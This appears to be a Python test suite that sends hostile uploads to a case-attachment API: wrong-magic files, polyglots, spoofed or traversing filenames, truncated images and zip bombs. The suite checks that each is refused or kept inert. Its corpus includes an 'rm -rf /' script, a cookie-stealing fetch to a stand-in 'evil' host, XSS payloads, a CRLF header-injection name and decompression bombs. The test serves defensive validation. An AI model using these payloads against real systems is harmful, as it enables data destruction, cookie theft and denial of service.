"""A corpus of hostile uploads through `POST /api/v1/cases/{id}/attachments`, then through the review
team's preview and redaction: wrong magic, polyglots, double extensions, NUL, control and
right-to-left characters in names, truncated images and PDFs, pixel floods, zip bombs in DOCX/XLSX,
programs, HTML and SVG.

Each file is sent on its own. None that must be refused is accepted, none is a server error, every
accepted one gets the type of its leading bytes and a display name without control, format (bidi)
or path characters that ends in that type's extension; and the review side answers the damaged and
flooding ones with a 4xx, never a 5xx, in bounded time.
"""

from __future__ import annotations

import io
import os
import struct
import time
import unicodedata
import zipfile
import zlib
from dataclasses import dataclass
from typing import Any

import pytest

from integrity.cases.tables import Attachment
from integrity.settings import Settings
from tests import samples
from tests.cases.test_intake import NEW_CASE, stored_objects
from tests.factories import AccountFactory

MIB = 1024 * 1024
BOUND_SECONDS = 30
#: What a bomb's XML part inflates to (spaces: about 1000 to 1 compressed).
BOMB = 256 * MIB

PNG = "image/png"
JPEG = "image/jpeg"
PDF = "application/pdf"
TEXT = "text/plain"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EXTENSIONS = {PNG: "png", JPEG: "jpg", PDF: "pdf", TEXT: "txt", DOCX: "docx", XLSX: "xlsx"}
REFUSE = None


@dataclass(frozen=True)
class Hostile:
    label: str
    filename: str
    content: bytes
    #: The content type it must be stored as, or REFUSE.
    expected: str | None
    #: For accepted images and PDFs: whether the review side must refuse to preview or redact it.
    broken: bool = False
    #: A name that multipart cannot carry as it is may also be refused (4xx) before any file is read.
    may_refuse: bool = False


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int, rows: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows or b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def png_bomb(side: int) -> bytes:
    """A real greyscale PNG of side x side pixels, all black: some hundred KiB, `side`² bytes inflated."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (side + 1)
    data = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", data)
        + chunk(b"IEND", b"")
    )


class Unseekable(io.BytesIO):
    """An output zipfile cannot seek back in: it writes every entry's sizes after its data (a
    data descriptor), as streaming writers do, so the local headers declare none."""

    def seek(self, *args: Any) -> int:
        raise OSError("not seekable")


def office(kind: str, parts: dict[str, bytes], *, streamed: bool = False) -> bytes:
    main = {
        "docx": (
            "word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        ),
        "xlsx": (
            "xl/workbook.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        ),
        "docm": ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
    }[kind]
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{main[0]}" ContentType="{main[1]}"/></Types>'
    ).encode()
    buffer = Unseekable() if streamed else io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", b'<?xml version="1.0"?><Relationships/>')
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def bomb_part(size: int) -> bytes:
    return b"<w:document>" + b" " * size + b"</w:document>"


def corpus() -> list[Hostile]:
    pdf = samples.pdf("Zapisnik")
    png = samples.png(width=32, height=32)
    jpeg = samples.jpeg(size=8192)
    text = samples.text()
    noise = png_claiming(64, 64, b"".join(b"\x00" + os.urandom(64) for _ in range(64)))
    html = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + os.urandom(256)
    utf16_html = "\ufeff".encode("utf-16-le") + html.decode().encode("utf-16-le")
    gifar = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + office("docx", {})
    docm = office("docm", {"word/document.xml": b"<w/>", "word/vbaProject.bin": b"\x00" * 64})
    png_zip = png + office("docx", {"word/document.xml": b"<w/>"})
    docx_bomb = office("docx", {"word/document.xml": bomb_part(BOMB)})
    xlsx_bomb = office("xlsx", {"xl/workbook.xml": b"<w/>", "xl/worksheets/sheet1.xml": bomb_part(BOMB)})
    hidden_bomb = office("docx", {"word/document.xml": bomb_part(BOMB)}, streamed=True)
    docx = office("docx", {"word/document.xml": b"<w:document/>" * 100})
    streamed_docx = office("docx", {"word/document.xml": b"<w:document/>" * 100}, streamed=True)
    xlsx = office("xlsx", {"xl/workbook.xml": b"<workbook/>"})
    return [
        # Wrong magic and programs.
        Hostile("random bytes named .png", "slika.png", b"\x01\x02\x03\x04" + os.urandom(4096), REFUSE),
        Hostile("an empty file", "prazno.pdf", b"", REFUSE),
        Hostile("an EXE named .pdf", "faktura.pdf", samples.windows_executable(), REFUSE),
        Hostile("an ELF named .jpg", "slika.jpg", elf, REFUSE),
        Hostile("a shell script named .txt", "beleska.txt", b"#!/bin/sh\nrm -rf /\n", REFUSE),
        Hostile("text named .pdf is text", "izvestaj.pdf", samples.text("samo tekst"), TEXT),
        # Markup.
        Hostile("HTML", "strana.html", html, REFUSE),
        Hostile("HTML named .txt", "strana.txt", html, REFUSE),
        Hostile("HTML behind a BOM and blanks", "strana.txt", b"\xef\xbb\xbf \n\t" + html, REFUSE),
        Hostile("HTML in UTF-16", "strana.txt", utf16_html, REFUSE),
        Hostile("SVG", "slika.svg", svg, REFUSE),
        Hostile("SVG with an XML declaration", "slika.png", b'<?xml version="1.0"?>\n' + svg, REFUSE),
        Hostile("JavaScript", "skripta.txt", b"var x = document.cookie;\nfetch('//evil/'+x)\n", REFUSE),
        # Polyglots: the leading bytes decide, and the type stored is never a renderable one.
        Hostile("GIF+JAR (GIFAR)", "slika.gif", gifar, REFUSE),
        Hostile("HTML with a PDF inside", "dokument.pdf", html + pdf, REFUSE),
        Hostile("a plain ZIP named .docx", "dokument.docx", _plain_zip(html), REFUSE),
        Hostile("a macro-enabled document named .docx", "dokument.docx", docm, REFUSE),
        Hostile("JPEG followed by HTML", "slika.jpg", jpeg + html, JPEG),
        Hostile("PDF with HTML and JavaScript", "dokument.pdf", pdf + html + b"/JS (app.alert(1))", PDF),
        Hostile("PNG followed by a ZIP", "slika.png", png_zip, PNG),
        # Names.
        Hostile("double extension .pdf.exe", "faktura.pdf.exe", pdf, PDF),
        Hostile("double extension .png.html", "slika.png.html", png, PNG),
        Hostile("a JPEG named .png", "slika.png", jpeg, JPEG),
        Hostile("right-to-left override", "faktura\u202efdp.exe", pdf, PDF),
        Hostile("bidi isolates and zero-width", "\u2067ra\u200bcun\u2069\u200e.pdf", pdf, PDF),
        Hostile("NUL in the name", "izvestaj\x00.exe.pdf", pdf, PDF),
        Hostile("control characters in the name", "a\x07b\x1b[31mc\x7f.txt", text, TEXT),
        Hostile("CR LF in the name", "a\r\nContent-Type: text/html\r\n.txt", text, TEXT, may_refuse=True),
        Hostile("a path", "../../../etc/passwd.txt", text, TEXT),
        Hostile("a Windows path", "C:\\Users\\x\\..\\evidence.pdf", pdf, PDF),
        Hostile("slash look-alikes", "a\u2215b\uff0fc.pdf", pdf, PDF),
        Hostile("only dots", "..", text, TEXT),
        Hostile("a very long name", "a" * 5000 + ".pdf", pdf, PDF, may_refuse=True),
        # Damaged files are evidence too: accepted as filed, but never previewed or redacted.
        Hostile("a truncated PNG", "slika.png", noise[: len(noise) // 2], PNG, broken=True),
        Hostile("a truncated JPEG", "slika.jpg", jpeg[:200], JPEG, broken=True),
        Hostile("a truncated PDF", "dokument.pdf", pdf[: len(pdf) // 2], PDF, broken=True),
        # Floods and bombs.
        Hostile(
            "a PNG claiming 100000 x 100000", "poplava.png", png_claiming(100_000, 100_000), PNG, broken=True
        ),
        Hostile("a 16000 x 16000 PNG", "bomba.png", png_bomb(16_000), PNG, broken=True),
        Hostile("a DOCX whose document.xml inflates hugely", "bomba.docx", docx_bomb, REFUSE),
        Hostile("an XLSX whose sheet inflates hugely", "bomba.xlsx", xlsx_bomb, REFUSE),
        Hostile(
            "a DOCX bomb whose entries keep their sizes in data descriptors",
            "bomba.docx",
            hidden_bomb,
            REFUSE,
        ),
        # Controls: ordinary files of each kind go through.
        Hostile("an ordinary PDF", "zapisnik.pdf", pdf, PDF),
        Hostile("an ordinary PNG", "foto.png", png, PNG),
        Hostile("an ordinary DOCX", "dopis.docx", docx, DOCX),
        Hostile("a DOCX written by a streaming writer", "dopis.docx", streamed_docx, DOCX),
        Hostile("an ordinary XLSX", "tabela.xlsx", xlsx, XLSX),
    ]


def _plain_zip(content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/index.html", content)
    return buffer.getvalue()


def unsafe_characters(name: str) -> list[str]:
    return [
        f"U+{ord(ch):04X}"
        for ch in name
        if unicodedata.category(ch) in {"Cc", "Cf", "Cs", "Co", "Cn"} or ch in "/\\\u2215\uff0f"
    ]


@pytest.mark.slow
async def test_hostile_uploads_are_refused_or_kept_inert(
    accounts: AccountFactory, settings: Settings
) -> None:
    member = await accounts.as_role("member")
    reviewer = await accounts.as_role("reviewer")
    created = await member.post("/api/v1/cases", json=NEW_CASE)
    assert created.status_code == 201, created.text
    case_id = created.json()["id"]

    problems: list[str] = []
    accepted: list[tuple[Hostile, dict[str, Any]]] = []
    for item in corpus():
        body, content_type = samples.multipart([(item.filename, item.content)])
        started = time.monotonic()
        response = await member.post(
            f"/api/v1/cases/{case_id}/attachments", content=body, headers={"content-type": content_type}
        )
        elapsed = time.monotonic() - started
        status = response.status_code
        if status >= 500 or elapsed > BOUND_SECONDS:
            problems.append(f"{item.label}: {status} after {elapsed:.1f} s")
        elif item.may_refuse and 400 <= status < 500 and status != 415:
            pass
        elif item.expected is REFUSE:
            if status == 201:
                problems.append(f"{item.label}: accepted as {response.json()[0]['content_type']}")
            elif not response.headers["content-type"].startswith("application/problem+json"):
                problems.append(f"{item.label}: {status} without a problem document")
        elif status != 201:
            problems.append(f"{item.label}: refused ({status}) though it is a {item.expected}")
        else:
            stored = response.json()[0]
            accepted.append((item, stored))
            name = stored["filename"]
            if stored["content_type"] != item.expected:
                problems.append(f"{item.label}: stored as {stored['content_type']}, not {item.expected}")
            if unsafe_characters(name) or len(name) > 150 or name.startswith("."):
                problems.append(f"{item.label}: unsafe display name {name!r}")
            if not name.endswith("." + EXTENSIONS[item.expected]):
                problems.append(f"{item.label}: display name {name!r} hides its type")
    assert not problems, "\n".join(problems)

    # Refused files left nothing; accepted ones read back as sent, never as something renderable.
    assert await Attachment.count() == len(accepted)
    assert len(stored_objects(settings)) == len(accepted)
    for item, stored in accepted:
        url = f"/api/v1/cases/{case_id}/attachments/{stored['id']}/content"
        back = await member.get(url)
        assert back.content == item.content, item.label
        # The detected type or a plain download; never anything a browser would render.
        assert back.headers["content-type"].split(";")[0] in {item.expected, "application/octet-stream"}
        assert back.headers["x-content-type-options"] == "nosniff"
        assert "unsafe-inline" not in back.headers["content-security-policy"]
        assert back.headers["content-disposition"].startswith("attachment;")

    # The review side: damaged and flooding images and PDFs are refused by the preview and the
    # redaction engine (4xx), in bounded time; the ordinary ones work.
    assert (await member.post(f"/api/v1/cases/{case_id}/submit")).status_code == 200
    started = await reviewer.post(f"/api/v1/cases/{case_id}/transitions", json={"action": "start_review"})
    assert started.status_code == 200, started.text
    for item, stored in accepted:
        if item.expected not in {PNG, JPEG, PDF} or not (item.broken or item.label.startswith("an ordinary")):
            continue
        base = f"/api/v1/cases/{case_id}/attachments/{stored['id']}"
        begun = time.monotonic()
        preview = await reviewer.get(f"{base}/pages/1.png")
        redaction = await reviewer.post(
            f"{base}/redactions",
            json={"boxes": [{"page": 1, "x": 0.1, "y": 0.1, "width": 0.5, "height": 0.5}]},
        )
        elapsed = time.monotonic() - begun
        statuses = (preview.status_code, redaction.status_code)
        if elapsed > 2 * BOUND_SECONDS or max(statuses) >= 500:
            problems.append(f"review of {item.label}: {statuses} after {elapsed:.1f} s")
        elif item.broken and (preview.status_code < 400 or redaction.status_code < 400):
            problems.append(f"review of {item.label}: {statuses}, a broken file was processed")
        elif not item.broken and statuses != (200, 201):
            problems.append(f"review of {item.label}: {statuses}")
    assert not problems, "\n".join(problems)
